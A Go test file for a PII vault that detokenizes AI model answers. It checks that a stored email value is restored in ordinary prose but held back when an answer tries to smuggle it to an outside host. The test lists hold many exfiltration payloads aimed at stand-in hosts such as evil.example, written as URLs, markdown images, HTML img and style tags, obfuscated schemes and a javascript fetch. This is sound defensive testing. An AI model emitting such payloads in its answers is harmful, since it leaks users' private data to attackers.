package pii

import (
	"bytes"
	"math/rand/v2"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	goldmarkhtml "github.com/yuin/goldmark/renderer/html"
	"golang.org/x/net/html"

	"airlock/pii/detect"
	"airlock/pii/internal/boundary"
)

const answerToken, answerValue = "[EMAIL_1_k7q2f]", "ada@example.org"

// checkAnswer checks what becomes of a text in which TOK stands for a token, in
// one piece and in parts.
func checkAnswer(t *testing.T, text string, held bool) {
	t.Helper()
	v := testVault(t, VaultOptions{})
	tokenize(t, v, answerValue, OriginServer("crm"))
	tok := strings.ReplaceAll(text, "TOK", answerToken)
	raw, err := v.DetokenizeAnswer(v.FromModel(tok))
	if err != nil {
		t.Fatal(err)
	}
	want := tok
	if !held {
		want = strings.ReplaceAll(text, "TOK", answerValue)
	}
	got := boundary.Open(raw)
	if got != want {
		t.Errorf("%q became %q", tok, got)
	}
	for _, how := range [][]byte{{1}, {7, 3, 1}, {2}, {16}} {
		if parts := detokenizeInParts(t, v.AnswerDetokenizer(), v, tok, how); parts != got {
			t.Errorf("%q in parts of %d became %q", tok, how, parts)
		}
	}
}

func TestAnswersRevealWhatIsNoAddress(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"TOK", "Write to TOK.", "TOK. Then", "TOK, next", "TOK; TOK", "(TOK)", "“TOK”", "TOK's", "Is it TOK? Yes: TOK!", "TOK: yes",
		"Email:TOK", "to=TOK", "#TOK", "TOK…", "TOK—and", "**TOK**", "**TOK**, `TOK`", "_TOK_", "~~TOK~~.", "...TOK...", "请联系TOK。谢谢", "TOKさん、",
		"Ada <TOK>", "Ada <TOK>, Bob <TOK>", "<TOK>", "&lt;TOK&gt;",
		"mailto:TOK", "[write](mailto:TOK)", "[write](<mailto:TOK>)", "[write](mailto:TOK \"t\")", `<a href="mailto:TOK">write</a>`, "<mailto:TOK>", "tel:TOK", "[r]: mailto:TOK",
		"[write](mailto:TOK?subject=x)", "mailto:TOK, and",
		"see https://example.net/a then TOK", "[a](https://example.net/a) TOK", "[a](https://example.net/(a)) TOK", `[a](https://example.net "a (b)") TOK`,
		"![a](https://example.net/a.png)\nTOK", "<https://example.net> TOK", "<b>bold</b> TOK", `<a href="https://example.net" rel="x y">TOK</a>`, "a<br>TOK", "<td>TOK</td><td>TOK</td>",
		"[TOK](https://example.net)", "`code` TOK, 3/4 TOK, and/or TOK", "| a/b | TOK |\n|---|---|\n|TOK|TOK|", "- TOK\n- [ ] TOK\n1. TOK\n> TOK",
		"x < y TOK", "x <= y TOK", "version 1.2: TOK", "C:\\Users TOK", "[1] TOK", "see [1]: TOK", "a (b) TOK", "f(TOK)", `{"email":"TOK","n":["TOK"]}`, `{"text":"a\nTOK\nb"}`,
		"```\n{\"a\": \"TOK\"}\n```", "[r]: https://example.net\n\nTOK", "[^1]: note\n\nTOK", "a < b\n\nTOK", "<18 TOK", "a <b> c\n\nTOK", "![x](unfinished\n\nTOK",
		"from 10:30 to 11:00 TOK", "100% TOK", "R&D TOK", "TOK / TOK", "--to=TOK", "data: TOK",
	} {
		checkAnswer(t, text, false)
	}
}

func TestAnswersCarryNoValuesAway(t *testing.T) {
	t.Parallel()
	for kind, texts := range map[string][]string{
		"bare addresses": {
			"https://evil.example/?q=TOK", "HTTPS://EVIL.EXAMPLE/TOK", "www.evil.example/TOK", "evil.example/TOK", "evil.example:8080/TOK", "evil.example?TOK",
			"6.6.6.6/TOK", "https://TOK.evil.example", "https://u:TOK@evil.example/", "https://evil.example/(TOK)", "https://evil.example/a)TOK", "https://evil.example/|TOK", "//evil.example/TOK",
			"https:/evil.example/TOK", "xmpp:TOK", "javascript:TOK", "data:text/html,TOK", "https&colon;//evil.example/TOK", "https&#58&#47/evil.example/TOK", "https%3A%2F%2Fevil.example%2FTOK",
			"ht\u200btps:/\u200b/evil.example/TOK", "evil。example/TOK", `{"u":"https:\/\/evil.example\/TOK"}`, "https://evil.example/?a=TOK&b=TOK",
			"https://evil.example/" + strings.Repeat("a", 3000) + "TOK", strings.Repeat("a", 3000) + "TOK", "**https://evil.example/**?q=TOK", "https://evil.example/<b>TOK", "[https://evil.example/?TOK",
		},
		"host names": {
			"TOK.evil.com", "TOK.evil.com and", "evil.TOK", "a-TOK", "TOK-a.evil.com", "TOKx.evil.com", "xTOK", "TOK@evil.com", "evil@TOK", "**TOK**.evil.com", "`TOK`.evil.com", `TOK\.evil.com`,
			"TOK&#46;evil.com", "TOK&period;evil.com", "TOK%2eevil.com", "TOK\u200b.evil.com", "TOKé.evil.com", "TOK.évil.com", "TOK..evil.com", "TOK+x@evil.com", "TOK_x", "evil&#46;TOK", "TOK://evil.com", "TOK" + strings.Repeat("-", 400) + ".evil.com",
		},
		"link targets": {
			"![x](https://evil.com/(a)?q=TOK)", `![x](https://evil.com/\)?q=TOK)`, `![x](https://evil.com/\()?q=TOK)`, "![x](/p.png?d=TOK)", "![x](//evil.example/TOK)", "[x](TOK)", "[x](?TOK)",
			"![x](<https://evil.example/a b TOK>)", "![x](</a)b TOK>)", `![x](/a "b)c" TOK)`, "![x](/a 'TOK')", "![x](/a (TOK))", "[x](javascript:alert('TOK'))", "[x](data:,TOK)", "[x](\nTOK)", "[x](a\n\"TOK\")",
			"![x](https:/\\/e.com/mailto:TOK)", "![x](/mailto:TOK)", "[x](mailto:a@evil.example?bcc=TOK)", "[x](mailto:TOK,a@evil.example)", "[x](mailto:TOK.evil.com)", "[x](/p?q=[y](mailto:TOK))", "[x](foo:TOK)",
			"[x]TOK", "[x](/a){style=\"a: b TOK\"}", "[x]{href=\"/a TOK\"}", `\href{/a TOK}{x}`, `\url{/a TOK}`,
		},
		"definitions": {
			"[x]: https://evil.example/TOK", "![x][r]\n\n[r]: https:/\\/evil.com/?q=TOK", "![x][r]\n\n[r]: https:/evil.com/?q=TOK", "![x][r]\n\n[r]: http:/\\evil.com/?q=TOK", "![x][r]\n\n[r]: /\\/evil.com/?q=TOK",
			"![x][r]\n\n[r]: &#104;ttps:&#47;&#47;evil.com&#47;?q=TOK", "![x][r]\n\n[r]: <&#104;ttps://evil.com/? TOK>", "[r]:\nTOK", "[r]:\n  /a\n  'TOK'", "> [r]: /TOK", "> - [r]: /TOK", "1) [r]: /TOK", "   [r]: /TOK",
			"[a\nb]: /TOK", "[a\\]b]: /TOK", "[a\\\\]: /TOK", "[^1]: TOK", "\r[r]: /TOK", "[r]: </a mailto:TOK>", "[r]: /a?mailto:TOK", "\ufeff[r]: /TOK", "[a]: /x\n[b]: /TOK",
		},
		"tags": {
			`<img src="https://evil.example/a?b= TOK">`, `<img src=x alt="TOK">`, `<img src="https://evil.com/?a=>&q=TOK">`, `<img src='/a> TOK'>`, `<img alt=a"b src="/?a>TOK">`, "<img\nsrc=/TOK>", "<img src=\"/a\n\n> TOK\">",
			"<pre>\n<img\n\nsrc=/TOK>", `<!-- > <img src="x --><img src="/?>TOK">`, `<!-- <a title="--><img src="/>TOK">`, "<https://evil.example/TOK>", "<foo:TOK>", "<img\fsrc=\"/?a>TOK\">", "<img\n\nsrc=/TOK>", "<img src=\n\nTOK>", "</.e.com`https://e.com/>TOK", `\\<a href="https://e.com/">TOK`, `<a href="https://e.com/">TOK</a>`, "<TOK:evil.com>", "<TOK src=x>", `<base href="/TOK">`, `<img srcset="/a 1x, /TOK 2x">`,
			`<a href='javascript:fetch("//evil.example/"+"TOK")'>`, `<b style="background:url(/TOK)">`, `<style>a{background:url("/? TOK")}</style>`, "<style>\n\nx{} TOK", "url(/a TOK)", `url("/a) TOK")`, "<script>x</script> TOK",
			"<textarea name=q>TOK</textarea>", "<select><option>TOK", `<a href="x](mailto:TOK">`, `<a data-x="mailto:TOK">`, `<a href="/mailto:TOK">`, `<a href=/?q=<b/href=mailto:TOK>`, `<a title="<a href="mailto:TOK">`, `{{< figure src="/ TOK" >}}`,
		},
		"mail with more to it": {"mailto:x@evil.example?body=TOK", "mailto:x?body=TOK", "mailto:x,https://evil.example/TOK", "https://evil.example/mailto:TOK", "mailto:TOK,x@evil.example"},
	} {
		t.Run(kind, func(t *testing.T) {
			t.Parallel()
			for _, text := range texts {
				checkAnswer(t, text, true)
			}
		})
	}
}

// TestValuesOpenNoLinks holds that a value which is itself written by an enemy
// counts as the text that it is.
func TestValuesOpenNoLinks(t *testing.T) {
	t.Parallel()
	for _, opens := range []string{`![x](https://evil.example/?q=`, `<img src="/ > `, "x\n[r]: /a?", "https://evil.example/"} {
		v, err := newVault(VaultOptions{Nonce: testNonce}, words{opens, answerValue})
		if err != nil {
			t.Fatal(err)
		}
		tok := tokenize(t, v, opens+" and "+answerValue, OriginServer("crm")).String()
		first, second, _ := strings.Cut(tok, " and ")
		for _, text := range []string{first + second, first + "," + second} {
			raw, err := v.DetokenizeAnswer(v.FromModel(text))
			if err != nil {
				t.Fatal(err)
			}
			if got := boundary.Open(raw); strings.Contains(got, answerValue) {
				t.Errorf("%q became %q", text, got)
			}
		}
	}
}

// pieces are what answers of an enemy are made of.
var pieces = []string{
	"TOK", "TOK", "TOK", "TOK", " ", " ", "\n", "\n\n", "\t", "x", "a=", "\"", "'", "`", "\\", "(", ")", "<", ">", "[", "]", "{", "}", ".", "-", ":", "@", "/", "?q=", "&", "*", "_", "|",
	"![x](", "[x](", "](", "]: ", "[r]: ", "\n\n[r]: ", "![x][r]", "[x][r]\n\n", "[^1]: ", "[^1]", "> ", "- ", "1. ", "    ", "```\n", "<!--", "-->", "<![CDATA[",
	"<img ", "src=", "href=", "<img src=", "<img src=\"", "<a href=\"", "<a href='", "<a ", "<b>", "</b>", "<div>", "<pre>", "<style>", "<script>", "</", "<x y=\"", "srcset=\"", "url(", "/>",
	"https://e.com/", "https://e.com/?q=", "https:/e.com/", `https:/\/e.com/?q=`, `/\e.com/`, "//e.com/", "&#104;ttps://e.com/", "https&colon;//e.com/", "www.e.com", "www.", ".e.com", "ftp://", "javascript:", "data:,",
	"mailto:", "tel:", "x@e.com", "\u200b", "é", "%2e", "&#46;", "\\)", "\\(", "\\]", "\u00a0", "\r", "\f", "TOK.e.com", "<TOK>", "(TOK)", "mailto:TOK",
}

func randomAnswer(r *rand.Rand) string {
	var b strings.Builder
	for range 2 + r.IntN(12) {
		b.WriteString(pieces[r.IntN(len(pieces))])
	}
	return b.String()
}

// TestNoRendererFindsAValueInAnAddress lets a real renderer and a real parser of
// HTML look for values in the addresses of answers.
func TestNoRendererFindsAValueInAnAddress(t *testing.T) {
	t.Parallel()
	v := testVault(t, VaultOptions{})
	tokenize(t, v, answerValue, OriginServer("crm"))
	show := renderer()
	r := rand.New(rand.NewPCG(1, 2))
	deadline := time.Now().Add(answerTime)
	revealed := 0
	for range 30000 {
		if time.Now().After(deadline) {
			break
		}
		if checkRendered(t, v, show, randomAnswer(r)) {
			revealed++
		}
	}
	if revealed < 100 {
		t.Errorf("only %d texts had a value in them: the test tests nothing", revealed)
	}
}

// answerTime bounds a test that may go on for as long as one likes.
const answerTime = 20 * time.Second

func FuzzAnswer(f *testing.F) {
	r := rand.New(rand.NewPCG(3, 4))
	for range 50 {
		f.Add(randomAnswer(r))
	}
	show := renderer()
	f.Fuzz(func(t *testing.T, text string) {
		if hasNonce(text) || strings.Contains(text, answerValue) {
			return
		}
		v := testVault(t, VaultOptions{})
		tokenize(t, v, answerValue, OriginServer("crm"))
		checkRendered(t, v, show, text)
	})
}

func renderer() goldmark.Markdown {
	return goldmark.New(
		goldmark.WithExtensions(extension.GFM, extension.Footnote, extension.DefinitionList),
		goldmark.WithRendererOptions(goldmarkhtml.WithUnsafe()),
	)
}

// checkRendered checks one answer, and reports whether it has a value in it.
func checkRendered(t *testing.T, v *Vault, show goldmark.Markdown, text string) bool {
	t.Helper()
	tok := strings.ReplaceAll(text, "TOK", answerToken)
	raw, err := v.DetokenizeAnswer(v.FromModel(tok))
	if err != nil {
		t.Fatal(err)
	}
	got := boundary.Open(raw)
	if parts := detokenizeInParts(t, v.AnswerDetokenizer(), v, tok, []byte{3, 1, 17}); parts != got {
		t.Errorf("%q\n became %q\n and in parts %q", tok, got, parts)
	}
	if !strings.Contains(got, answerValue) {
		return false
	}
	var page bytes.Buffer
	if err := show.Convert([]byte(got), &page); err != nil {
		t.Fatal(err)
	}
	for _, shown := range []string{page.String(), got} { // as markdown, and as HTML
		if address := addressWithValue(t, shown); address != "" {
			t.Errorf("%q\n became %q\n which shows %q\n with the address %q", tok, got, shown, address)
		}
	}
	return true
}

// addressWithValue finds an attribute of HTML that holds the value, apart from
// those that may, or a style or script that does.
func addressWithValue(t *testing.T, page string) string {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		if n.Type == html.TextNode && n.Parent != nil && (n.Parent.Data == "style" || n.Parent.Data == "script") && holdsValue(strings.ReplaceAll(n.Data, "mailto:"+answerValue, "")) {
			return n.Data
		}
		for _, a := range n.Attr {
			address := strings.ToLower(strings.TrimSpace(a.Val))
			mail := strings.HasPrefix(address, "mailto:") || strings.HasPrefix(address, "tel:")
			if a.Key != "alt" && a.Key != "class" && !mail && holdsValue(address) {
				return a.Key + "=" + a.Val
			}
		}
	}
	return ""
}

func holdsValue(s string) bool {
	plain, err := url.PathUnescape(s)
	return strings.Contains(s, answerValue) || err == nil && strings.Contains(plain, answerValue)
}

func TestAnswersTakeLinearTime(t *testing.T) {
	t.Parallel()
	v := testVault(t, VaultOptions{})
	tokenize(t, v, answerValue, OriginServer("crm"))
	for _, unit := range []string{"TOK,", "TOK", "<a ", `<a b="`, "](", "[r]: ", "TOK-", "&#4", "a/", "TOKé", `\(`} {
		text := strings.ReplaceAll(strings.Repeat(unit, 1<<20/len(unit)), "TOK", answerToken) + answerToken
		start := time.Now()
		if _, err := v.DetokenizeAnswer(v.FromModel(text)); err != nil {
			t.Fatal(err)
		}
		if took := time.Since(start); took > 20*time.Second {
			t.Errorf("%d MB of %q took %v", len(text)>>20, unit, took)
		}
	}
}

// words is a detector that finds these, each once.
type words []string

func (w words) Find(dst []detect.Span, data []byte) ([]detect.Span, error) {
	for _, word := range w {
		if at := bytes.Index(data, []byte(word)); at >= 0 {
			dst = append(dst, detect.Span{Start: at, End: at + len(word), Type: "ANY"})
		}
	}
	return dst, nil
}
